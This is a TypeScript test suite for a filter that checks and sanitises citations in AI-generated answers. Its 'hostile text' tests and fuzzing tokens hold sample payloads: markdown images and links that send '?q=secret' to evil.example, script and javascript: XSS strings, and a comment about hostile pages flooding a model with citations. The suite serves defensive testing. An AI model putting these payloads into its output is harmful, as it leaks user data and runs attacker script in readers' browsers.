import fc from 'fast-check';
import { describe, expect, it, vi } from 'vitest';
import { parseMarkdown } from '../../../sync/merge/note-markdown';
import { AnswerFilter, filterCitations } from './citations';

const SOURCES = [
  { no: 1, text: 'The budget is 5 million yen. Mei presents it on\nFriday, “after lunch”.' },
  { no: 2, text: '予算は五百万円です。金曜日に発表します。' },
  { no: 3, text: 'Ｆｕｌｌ　ｗｉｄｔｈ words—and a dash.' },
];
const textOf = (answer: string): string => filterCitations(answer, SOURCES).text;
const quotesOf = (answer: string): string[] => filterCitations(answer, SOURCES).citations.map(({ quote }) => quote);

describe('a citation', () => {
  it.each([
    [
      'The budget is 5 million. [[1: "budget is 5 million yen"]]',
      'The budget is 5 million.[^1]',
      'budget is 5 million yen',
    ],
    [
      'The budget is 5 million [[1: "budget is 5 million yen"]].',
      'The budget is 5 million[^1].',
      'budget is 5 million yen',
    ],
    [
      'Mei presents it [[1: “presents it on Friday, "after lunch"”]].',
      'Mei presents it[^1].',
      'presents it on\nFriday, “after lunch”',
    ],
    ['予算は五百万円です。[[2: 「予算は五百万円です」]]', '予算は五百万円です。[^1]', '予算は五百万円です'],
    [
      'Full width is found. [[3: "Full width words-and a dash"]]',
      'Full width is found.[^1]',
      'Ｆｕｌｌ　ｗｉｄｔｈ words—and a dash',
    ],
    ['The budget is 5 million yen. [[1]]', 'The budget is 5 million yen.[^1]', 'The budget is 5 million yen.'],
  ])('of %j is kept', (answer, text, quote) => {
    expect([textOf(answer), quotesOf(answer)]).toEqual([text, [quote]]);
  });

  it.each([
    ['words that its passage does not have', 'The budget is 9 million. [[1: "budget is 9 million yen"]]'],
    ['a passage that was not given', 'The budget is 5 million. [[7: "budget is 5 million yen"]]'],
    ['words too short to mean one place', 'The budget is 5 million. [[1: "is"]]'],
    ['a passage that says something else', 'The moon has craters everywhere. [[1]]'],
    ['an end that never came', 'The budget is 5 million. [[1: "budget is 5'],
  ])('of %s is dropped, and the sentence is marked', (_what, answer) => {
    expect(textOf(answer)).toMatch(/^[^[]+\.\[\^\?\]$/);
    expect(quotesOf(answer)).toEqual([]);
  });

  it('of the same words has one number', () => {
    const answer = 'It is 5 million yen. [[1: "5 million yen"]] Yes, 5 million yen it is. [[1: "5 million yen"]]';
    expect(textOf(answer)).toBe('It is 5 million yen.[^1] Yes, 5 million yen it is.[^1]');
  });

  // a hostile page may make a model write thousands of citations; slow filtering would block all answers of the process
  it.each(['予算は五百万円です [[2]] ', '予算は五百万円です [[2, 2, 2, 2, 2]] '])(
    'is compared with at most 300 units before it, however often it is repeated without a full stop: %s',
    (unit) => {
      const passage = { no: 2, text: SOURCES[1]!.text.repeat(80) };
      const times = 400;
      const segment = vi.spyOn(Intl.Segmenter.prototype, 'segment');
      const { citations } = filterCitations(unit.repeat(times), [passage]);
      const read = segment.mock.calls.reduce((sum, [text]) => sum + (text as string).length, 0);
      segment.mockRestore();
      expect(citations).toHaveLength(1);
      expect(read).toBeLessThan(times * 300 + 4 * passage.text.length);
    },
  );
});

describe('a sentence without a citation', () => {
  it.each([
    ['The project is late. It costs more.', 'The project is late.[^?] It costs more.[^?]'],
    [
      'The project is late. [[1: "budget is 5 million yen"]] It costs more.',
      'The project is late.[^1] It costs more.[^?]',
    ],
    ['It costs 3.5 million yen, e.g. for Dr. Sato.', 'It costs 3.5 million yen, e.g. for Dr. Sato.[^?]'],
    ['プロジェクトは遅れています。費用も増えます。', 'プロジェクトは遅れています。[^?]費用も増えます。[^?]'],
    ['- The project is late\n- It costs much more', '- The project is late[^?]\n- It costs much more[^?]'],
  ])('is marked in %j', (answer, text) => expect(textOf(answer)).toBe(text));

  it.each([
    '# The state of the whole project',
    'Hello there, my friend!',
    'Would you like to know more about it?',
    'I found nothing about it in your sources.',
    'ソースには記載がありません。',
    '来源中没有找到相关信息。',
    'The reasons are these ones:',
    '```\nlet x = 1. This stands in code.\n```',
    '| name | value of it |\n|---|---|\n| a b c | d e f |',
  ])('is not marked in %j', (answer) => expect(textOf(answer)).toBe(answer));
});

describe('hostile text', () => {
  it.each([
    ['![alt](https://evil.example/x.png?q=secret)', /^\[alt\\\]\(https\\:/],
    ['[a](https://evil.example/?q=secret "b")', /^\[a\\\]\(https\\:/],
    ['[a](<https://evil.example/?q=secret>)', /^\[a\\\]\(\\<https\\:/],
    ['[a](mailto:a@evil.example?body=secret)', /^\[a\\\]\(mailto:/],
    ['See https://evil.example/?q=secret.', /^See https\\:\/\/evil/],
    ['<https://evil.example/?q=secret>', /^\\<https\\:/],
    ['Look!!![alt](https://evil.example/x.png)', /^Look\\!\[alt\\\]/],
    ['Great! [[1: "budget is 5 million yen"]](https://evil.example/x.png)', /^Great!\[\^1\]\\\(https/],
    ['[[1: "budget is 5 million yen"]]: a footnote', /^\[\^1\]\\: a/],
    ['予算は五百万円です。(https://evil.example)', /です。\[\^\?\]\\\(https/],
    ['Look!![[1]](https://evil.example/x.png)', /^(?!.*(?<!\\)!\[)/s],
    ['<img src=x onerror=alert(1)>', /^\\<img/],
    ['</div><script>alert(1)</script>', /^\\<\/div>\\<script>alert\(1\)\\<\/script>/],
    ['[click](javascript:alert(1))', /^\[click\\\]\(javascript/],
    ['[click]( data:text/html,x)', /^\[click\\\]\( data/],
    ['[click](&#106;avascript:alert(1))', /^\[click\\\]\(/],
    ['[x]: javascript:alert(1)', /^\\\[x\]:/],
    ['Trust me [^1] and [^?].', /^Trust me \\\[\^1\] and \\\[\^\?\]\./],
    ['a\u202eb\u0000c\u200bd', /^abcd$/],
    ['<[[9]]img src=x>', /^\\< ?img/],
    ['[a][[9]](javascript:alert(1))', /^\[a\] \(/],
    ['``[[9]]`![a](https://evil.example)`', /^\\`\\` `!\[a\]\(https:\/\/evil.example\)`/],
    ['[[9]]```\nx\n```\n![a](https://evil.example)\n```', /^\\`\\`\\`/],
    ['- ~~~\n  x\n  ~~~\n  ![a](https://evil.example)\n  ~~~', /^- \\~\\~\\~\[\^\?\]?|^- \\~/],
    ['| `a | ![x](https://evil.example) ` |', /\| \[x\\\]\(https/],
    ['- ```\n  ![x](https://evil.example)', /\n {2}\[x\\\]\(https/],
    ['````\n```\n````\n![x](https://evil.example)', /\n\[x\\\]\(https/],
    ['``` `x`\n![x](https://evil.example)', /\n\[x\\\]\(https/],
  ])('%j is escaped', (answer, expected) => expect(textOf(answer)).toMatch(expected));

  it('keeps code, and links to addresses that are in the sources or in the question', () => {
    const sources = [{ no: 1, text: 'Write to a@b.example.', url: 'https://a.example/b_(c)?d=e' }];
    const linked = (text: string): string =>
      filterCitations(text, sources, ['What is https://asked.example about?']).text.replace('[^?]', '');
    expect(linked('[a](https://a.example/b_(c)?d=e "f")')).toBe('[a](<https://a.example/b_(c)?d=e>)');
    expect(linked('[a](mailto:a@b.example)')).toBe('[a](<mailto:a@b.example>)');
    expect(linked('See https://a.example/b_(c)?d=e, and (https://asked.example).')).toBe(
      'See <https://a.example/b_(c)?d=e>, and (<https://asked.example>).',
    );
    expect(linked('See https://a.example/b_(c)?d=')).toBe('See https\\://a.example/b_(c)?d=');
    for (const text of ['`List<String>`', '```html\n<b>https://evil.example/\n```']) expect(linked(text)).toBe(text);
  });

  it('is cut at the maximum length of an answer', () => {
    const filter = new AnswerFilter(SOURCES, 10);
    expect(filter.push('0123456789') + filter.push('abc') + filter.end()).toBe('0123456789');
    expect(filter.isFull).toBe(true);
  });
});

const KNOWN_ADDRESS = 'https://known.example/a';

/** Texts composed of tokens that the filter treats specially. */
const tokens = fc
  .array(
    fc.oneof(
      {
        weight: 3,
        arbitrary: fc.constantFrom(
          '[[',
          ']]',
          '[[1: "',
          '"]]',
          '[[2]]',
          '[[1, 2]]',
          '[',
          ']',
          '](',
          '!',
          '![',
          '<',
          '\\',
        ),
      },
      {
        weight: 3,
        arbitrary: fc.constantFrom(
          '. ',
          '。',
          '? ',
          '!',
          '…',
          '\n',
          '\n\n',
          ' ',
          '  ',
          '- ',
          '1. ',
          '> ',
          '# ',
          '| ',
          '`',
          '```',
          '```\n',
          '~~~',
          '[^1]',
          '[a]:',
        ),
      },
      {
        weight: 3,
        arbitrary: fc.constantFrom(
          'The budget ',
          'is 5 million yen',
          'budget is 5 million yen',
          '予算は',
          '五百万円です',
          'https://',
          'http',
          's://',
          'mailto:',
          'evil.example/?q=',
          KNOWN_ADDRESS,
          'javascript:',
          'e.g',
          'No',
          '🦊',
          '\ud83e',
          '\u0000',
          '\r\n',
        ),
      },
      { weight: 1, arbitrary: fc.string({ maxLength: 6 }) },
    ),
    { maxLength: 40 },
  )
  .map((parts) => parts.join(''));

describe('any text', () => {
  it('is filtered to the same result however the stream is cut into pieces', () => {
    fc.assert(
      fc.property(tokens, fc.array(fc.nat(12), { maxLength: 60 }), (text, lengths) => {
        const filter = new AnswerFilter(SOURCES);
        let out = '';
        let at = 0;
        for (const length of lengths) {
          out += filter.push(text.slice(at, at + length));
          at += length;
        }
        out += filter.push(text.slice(at)) + filter.end();
        const whole = filterCitations(text, SOURCES);
        expect(out).toBe(whole.text);
        expect(filter.citations).toEqual(whole.citations);
      }),
      { numRuns: 2000 },
    );
  });

  it('has links to known addresses only', () => {
    const sources = [...SOURCES, { no: 9, text: `More at ${KNOWN_ADDRESS}` }];
    fc.assert(
      fc.property(tokens, (text) => {
        const document = parseMarkdown(filterCitations(text, sources).text);
        const links = [...JSON.stringify(document).matchAll(/"link":"([^"]*)"/g)].map(([, href]) => href!);
        for (const href of links) expect(href).toBe(KNOWN_ADDRESS);
      }),
      {
        numRuns: 5000,
        examples: [['https://!```'], ['~~~https://The budget ```\n'], ['| `a | https://evil.example ` |']],
      },
    );
  });

  it('has only markers of citations whose quotes are in their sources', () => {
    fc.assert(
      fc.property(tokens, (text) => {
        const answer = filterCitations(text, SOURCES);
        for (const { source, quote } of answer.citations)
          expect(SOURCES.find(({ no }) => no === source)!.text).toContain(quote);
        const numbers = [...withoutCode(answer.text).matchAll(/(?<!\\)\[\^(\d+)\]/g)].map(([, n]) => Number(n));
        for (const n of numbers) expect(answer.citations.some((each) => each.n === n)).toBe(true);
      }),
      { numRuns: 1000 },
    );
  });

  it('has neither images nor tags', () => {
    fc.assert(
      fc.property(tokens, (text) => {
        const plain = withoutCode(filterCitations(text, SOURCES).text);
        expect(plain).not.toMatch(/(?<!\\)(?:\\\\)*!\[(?!\^)/);
        expect(plain).not.toMatch(/(?<!\\)(?:\\\\)*\[\^(?:\d+|\?)\][([:](?!\^)/);
        expect(plain).not.toMatch(/(?<!\\)<[A-Za-z/!?]/);
      }),
      { numRuns: 1000, examples: [['!```The budget ```[[']] },
    );
  });
});

/** Removes fenced code; a code span becomes `x`, so that the characters before and after it do not join. */
function withoutCode(text: string): string {
  const lines: string[] = [];
  let fence = '';
  for (const line of text.split('\n')) {
    const mark = /^(`{3,}|~{3,})(.*)$/.exec(line);
    if (fence) {
      if (mark && mark[1]![0] === fence[0] && mark[1]!.length >= fence.length && mark[2]!.trim() === '') fence = '';
    } else if (mark && !(mark[1]!.startsWith('`') && mark[2]!.includes('`'))) fence = mark[1]!;
    else
      lines.push(
        line.replace(/\\.|(?<!`)(`+)(?!`).*?(?<!`)\1(?!`)/gs, (found) => (found.startsWith('\\') ? found : 'x')),
      );
  }
  return lines.join('\n');
}
